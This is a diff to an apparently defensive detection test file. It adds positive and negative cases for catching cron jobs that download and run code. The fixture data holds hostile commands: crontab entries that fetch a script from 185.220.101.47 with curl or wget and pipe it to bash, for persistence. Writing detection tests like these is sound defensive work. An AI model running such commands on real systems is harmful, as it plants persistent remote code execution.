@@ -511,12 +511,17 @@ def cases():
             [linux_exec("lx-app01", "/usr/bin/bash", "bash -c (crontab -l; echo \"*/5 * * * * curl -fsSL "
                         "http://185.220.101.47/u.sh | bash\") | crontab -"),
              linux_exec("lx-app01", "/usr/bin/dash", "/bin/sh -c curl -s http://185.220.101.47/u.sh | sh",
-                        parent="/usr/sbin/cron")],
+                        parent="/usr/sbin/cron"),
+             linux_exec("lx-app01", "/usr/bin/crontab", "crontab -l | { cat; echo '* * * * * wget -qO- "
+                        "http://185.220.101.47/u.sh|/bin/bash'; } | crontab -")],
             [linux_exec("lx-db01", "/usr/bin/dash", "/bin/sh -c /usr/local/bin/backup.sh", parent="/usr/sbin/cron"),
+             linux_exec("lx-db01", "/usr/bin/dash", "/bin/sh -c curl -s https://repo.medsoft.local/SHA256SUMS | "
+                        "sha256sum -c --ignore-missing", parent="/usr/sbin/cron"),
              linux_exec("lx-db01", "/usr/bin/crontab", "crontab -l", user="deploy")]),
         "cron_download_execute_syslog": (
             [syslog("lx-app01", "CRON", "(root) CMD (curl -fsSL http://185.220.101.47/u.sh | bash)")],
             [syslog("lx-db01", "CRON", "(root) CMD (/usr/local/bin/backup.sh)"),
+             syslog("lx-db01", "CRON", "(root) CMD (curl -s https://repo.medsoft.local/SHA256SUMS | sha256sum -c)"),
              syslog("lx-app01", "sshd", "Accepted publickey for deploy from 10.20.5.11 port 52144 ssh2: ED25519 "
                     "SHA256:Qm9ndXNLZXlGb3JUZXN0cw")]),
     }
